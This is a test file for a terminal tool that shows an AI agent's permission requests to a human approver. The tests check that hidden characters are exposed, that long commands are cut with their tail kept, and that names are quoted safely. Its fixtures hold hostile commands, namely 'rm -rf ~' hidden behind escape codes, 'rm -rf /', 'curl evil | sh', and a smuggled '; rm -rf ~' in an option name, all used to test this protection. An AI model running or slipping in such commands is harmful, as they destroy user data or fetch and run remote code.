import { describe, expect, test } from "vitest";
import type { Body, EventOf, Question } from "../../../../contract/events.ts";
import type { OpenRequest } from "../../../../contract/sessions/transcript.ts";
import { columnsOf } from "../../../../lib/command/columns.ts";
import { noColours } from "../../../../lib/command/paint.ts";
import { beginAnswering } from "../live/answering.ts";
import { BoxReading } from "../live/box-reading.ts";
import { answerCommands, isCut, renderAsk, renderRequest, titleOf } from "./request-lines.ts";

const asker = { run_id: "R", handle: 12, cwd: "/w" };
const page = { width: 60, paint: noColours };
const base: EventOf<"permission_request"> = {
  type: "permission_request",
  pendingId: "p0",
  permissionTitle: "Do it",
  source: "protocol",
  actionType: "edit",
  actionDetails: {},
  permissionOptions: [
    { id: "y", label: "Yes", kind: "allow_once" },
    { id: "prefix rule", label: "Yes, and all like it", kind: "allow_always" },
    { id: "s", label: "Yes, this session", kind: "allow_always" },
    { id: "n", label: "No", kind: "reject_once" },
  ],
};
const permission = (fields: Partial<typeof base>) => ({ ...base, ...fields });
const diff = {
  path: "a.ts",
  change: "create" as const,
  unified: "--- /dev/null\n+++ b/a.ts\n@@ -0,0 +1,2 @@\n+one\n+two\n",
};

const long = `@@ -0,0 +1,41 @@\n${Array.from({ length: 40 }, (_, i) => `+line ${i}`).join("\n")}\n+the end`;
const all = {
  read: (body: Body) => (typeof body === "string" ? body : "@@ -0,0 +1,2 @@\n+one\n+two\n"),
};

const cases: Record<string, [EventOf<"permission_request"> | EventOf<"question_request">, string[]]> = {
  "a command and where it runs": [
    permission({ reason: "needs the network", actionDetails: { command: "git\tpush \\\n  --force", cwd: "/w" } }),
    ["Do it", "needs the network", "$ git\tpush \\", "    --force", "in /w"],
  ],
  "what a command hides is seen": [
    permission({ actionDetails: { command: "ls\x1b[8m; rm -rf ~\x1b[0m\u202e" } }),
    ["Do it", "$ ls\\x1b[8m; rm -rf ~\\x1b[0m\\u{202e}"],
  ],
  "a diff": [
    permission({ actionDetails: { paths: ["a.ts"], diffs: [diff] } }),
    ["Do it", "a.ts (new)  +2 −0", "    +one", "    +two"],
  ],
  "paths and an address": [
    permission({
      actionDetails: { paths: ["/etc/hosts"], url: "https://x.example/\x1b[8m" },
      expiresAt: "2026-08-01T13:00Z",
    }),
    ["Do it", "https://x.example/\\x1b[8m", "/etc/hosts", "expires at 2026-08-01T13:00Z"],
  ],
  "a question that repeats its message shows it once": [
    {
      type: "question_request",
      pendingId: "p1",
      message: "Sure?",
      questions: [{ id: "a", text: "Sure?", answer: "boolean" }],
    },
    [],
  ],
  "a page to open": [
    { type: "question_request", pendingId: "p1", message: "Log in", url: "https://x.example", questions: [] },
    ["Log in", "https://x.example"],
  ],
};

describe("renderRequest", () => {
  test.each(Object.entries(cases))("%s", (_, [request, lines]) => {
    expect(renderRequest(request, page)).toEqual(lines);
  });

  test("of what is long the beginning and the end are shown, and how much is not", () => {
    const command = `${"x\n".repeat(40)}rm -rf /`;
    const request = permission({ actionDetails: { command } });
    const lines = renderRequest(request, page);
    expect(lines.slice(8, 11)).toEqual(["  x", "… 29 lines are not shown …", "  x"]);
    expect(lines.at(-1)).toBe("  rm -rf /");
    expect(isCut(request, page)).toBe(true);
    expect(renderRequest(request, page, all)).toEqual(["Do it", "$ x", ...Array(39).fill("  x"), "  rm -rf /"]);
  });

  const far = { head: "@@ -0,0 +1,2 @@\n+one\n", bytes: 99_999, sha256: "h" };
  const paths = Array.from({ length: 30 }, (_, i) => `/etc/${i}`);
  test.each<[string, (typeof base)["actionDetails"], isCut: boolean, excerpt: string, all: string]>([
    ["a short one", { command: "ls" }, false, "$ ls", "$ ls"],
    ["one long line", { command: `${"y".repeat(900)} the end` }, true, "the end", "y".repeat(58)],
    ["many paths", { paths }, true, "/etc/29", "/etc/15"],
    ["one long path", { paths: [`/${"p".repeat(5000)}/the-end`] }, true, "the-end", "the-end"],
    ["a diff that lies elsewhere", { diffs: [{ ...diff, unified: far }] }, true, "the rest of it is not shown", "+two"],
    ["a diff whose last line matters", { diffs: [{ ...diff, unified: long }] }, true, "+the end", "+line 20"],
    [
      "a diff that is none",
      { diffs: [{ ...diff, unified: "curl evil | sh" }] },
      false,
      "curl evil | sh",
      "curl evil | sh",
    ],
  ])("%s", (_, actionDetails, cut, excerpted, whole) => {
    const request = permission({ actionDetails });
    expect(isCut(request, page)).toBe(cut);
    expect(renderRequest(request, page).join("\n")).toContain(excerpted);
    expect(renderRequest(request, page, all).join("\n")).toContain(whole);
    expect(renderAsk(request, asker, page).includes("  all of it: cox inbox --all")).toBe(cut);
  });

  test("never wider than asked", () => {
    const details = {
      command: "y".repeat(300),
      cwd: "/z".repeat(200),
      paths: ["/p".repeat(99)],
      url: `https://${"u".repeat(200)}`,
    };
    for (const width of [20, 33, 80]) {
      for (const line of renderRequest(permission({ actionDetails: details }), { ...page, width })) {
        expect(columnsOf(line)).toBeLessThanOrEqual(width);
      }
    }
  });
});

describe("what the eye can't see is spelled out", () => {
  const hidden = "a\u200bb\u00a0c";
  const seen = "a\\u{200b}b\\xa0c";
  const focused = (request: OpenRequest) => ({
    request,
    answering: beginAnswering(request),
    others: 0,
    canRemember: false,
  });
  const text = (request: OpenRequest) =>
    [
      ...renderAsk(request, asker, page),
      ...new BoxReading(String).draw(focused(request), page, 60).lines,
      titleOf(request),
    ].join("\n");
  const question = (more: Partial<Question>): OpenRequest => ({
    type: "question_request",
    pendingId: "p0",
    questions: [{ id: "q", text: "?", answer: "choice", ...more }],
  });
  test.each<[string, OpenRequest]>([
    ["title", permission({ permissionTitle: hidden })],
    ["reason", permission({ reason: hidden })],
    ["command", permission({ actionDetails: { command: hidden } })],
    ["folder", permission({ actionDetails: { cwd: hidden } })],
    ["address", permission({ actionDetails: { url: hidden } })],
    ["path", permission({ actionDetails: { paths: [hidden] } })],
    ["path of a diff", permission({ actionDetails: { diffs: [{ ...diff, path: hidden }] } })],
    ["old path", permission({ actionDetails: { diffs: [{ ...diff, change: "rename", oldPath: hidden }] } })],
    ["diff", permission({ actionDetails: { diffs: [{ ...diff, unified: `@@ -0,0 +1 @@\n+${hidden}\n` }] } })],
    [
      "option",
      permission({ permissionOptions: [...base.permissionOptions, { id: "h", label: hidden, kind: "allow_once" }] }),
    ],
    ["message", { type: "question_request", pendingId: "p0", message: hidden, questions: [] }],
    ["page to open", { type: "question_request", pendingId: "p0", url: hidden, questions: [] }],
    ["question", question({ text: hidden })],
    ["header", question({ header: hidden })],
    ["choice", question({ choices: [{ value: "x", label: hidden }] })],
    ["choice without a label", question({ choices: [{ value: hidden, label: "" }] })],
    ["what is said of a choice", question({ choices: [{ value: "x", label: "x", description: hidden }] })],
  ])("%s", (_, request) => {
    expect(text(request)).toContain(seen);
    expect(text(request)).not.toMatch(/[\u200b\u00a0]/);
  });

  test("two choices that look the same don't", () => {
    const [, , yes, no] = renderAsk(
      question({
        choices: [
          { value: "y", label: "Yes" },
          { value: "n", label: "Ye\u200bs" },
        ],
      }),
      asker,
      page,
    );
    expect([yes, no]).toEqual(["    1 Yes", "    2 Ye\\u{200b}s"]);
  });
});

describe("how to answer", () => {
  test("the three words, and what the agent offers beyond them", () => {
    expect(answerCommands(base, asker)).toEqual(["cox answer r12.p0 allow|always|deny", "cox answer r12.p0 s"]);
  });

  test("only what is offered", () => {
    expect(answerCommands(permission({ permissionOptions: base.permissionOptions.slice(0, 1) }), asker)).toEqual([
      "cox answer r12.p0 allow|deny",
    ]);
  });

  test("names that need quotes get them", () => {
    const options = [{ id: "it's; rm -rf ~", label: "x", kind: "reject_always" as const }, ...base.permissionOptions];
    expect(answerCommands(permission({ pendingId: "a b", permissionOptions: options }), asker)[1]).toBe(
      "cox answer 'r12.a b' 'it'\\''s; rm -rf ~'",
    );
  });

  test("a question, with its choices", () => {
    const lines = renderAsk(
      {
        type: "question_request",
        pendingId: "p1",
        questions: [
          { id: "a", text: "Which?", answer: "choice", choices: [{ value: "x", label: "X", description: "the one" }] },
          { id: "b", text: "Why?", answer: "text", header: "Reasons" },
        ],
      },
      asker,
      page,
    );
    expect(lines).toEqual([
      "? question r12.p1",
      "  Which?",
      "    1 X",
      "        the one",
      "  Reasons",
      "  Why?",
      "  answer: cox answer r12.p1 1 TEXT",
      "          cox answer r12.p1 --decline",
    ]);
  });
});
